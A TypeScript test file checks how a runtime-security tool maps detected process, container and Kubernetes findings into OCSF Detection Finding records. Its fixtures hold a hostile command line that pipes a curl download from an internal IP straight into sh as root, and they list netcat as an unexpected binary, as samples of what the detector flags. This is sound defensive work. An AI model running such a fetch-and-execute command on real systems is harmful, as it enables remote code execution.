import { describe, expect, it } from "vitest";
import { ocsfDetectionFinding } from "./ocsf.ts";
import { execSession, replicaDeviation, unexpectedProcess } from "./testing/findings.ts";

describe("ocsfDetectionFinding", () => {
  it("is a Detection Finding (class 2004, category 2, type 200401) with every required attribute", () => {
    const ocsf = ocsfDetectionFinding(unexpectedProcess());
    expect(ocsf).toMatchObject({
      class_uid: 2004,
      class_name: "Detection Finding",
      category_uid: 2,
      activity_id: 1,
      type_uid: 200401,
      severity_id: 5,
      severity: "Critical",
      time: 1714557600123,
      metadata: { version: "1.3.0", product: { name: "Outlier" }, uid: "f-unexpected-1" },
      finding_info: { uid: "f-unexpected-1", types: ["process.unexpected"], created_time: 1714557600123 },
    });
    for (const key of ["activity_id", "category_uid", "class_uid", "finding_info", "metadata", "severity_id", "time", "type_uid"]) {
      expect(ocsf).toHaveProperty(key);
    }
  });

  it("maps the process, its parent, the container, the node and the workload", () => {
    const ocsf = ocsfDetectionFinding(unexpectedProcess());
    expect(ocsf.evidences[0]).toMatchObject({
      process: {
        name: "curl",
        pid: 4242,
        cmd_line: "/usr/bin/curl -s http://10.0.0.9/x?a=1|sh",
        file: { path: "/usr/bin/curl", name: "curl" },
        user: { uid: "0" },
        parent_process: { name: "sh", pid: 4200 },
      },
      container: { name: "app" },
    });
    expect(ocsf.device).toEqual({ hostname: "node-a", type_id: 0 });
    expect(ocsf.resources).toEqual([
      { type: "Deployment", name: "Deployment/checkout", namespace: "payments", labels: ["app:checkout", "team:payments", "app.kubernetes.io/part-of:shop"], cloud_partition: "prod-eu" },
      { type: "Pod", name: "checkout-7d9f8-abcde", namespace: "payments", cloud_partition: "prod-eu" },
    ]);
  });

  it("names the exec user as the actor and keeps the evidence unmapped", () => {
    expect(ocsfDetectionFinding(execSession()).evidences[0]?.actor).toEqual({ user: { name: "alice@example.com" } });
    expect(ocsfDetectionFinding(replicaDeviation()).unmapped.evidence).toMatchObject({ uniqueUnknownBinaries: ["/bin/nc"] });
    expect(ocsfDetectionFinding(replicaDeviation()).severity_id).toBe(4);
  });
});
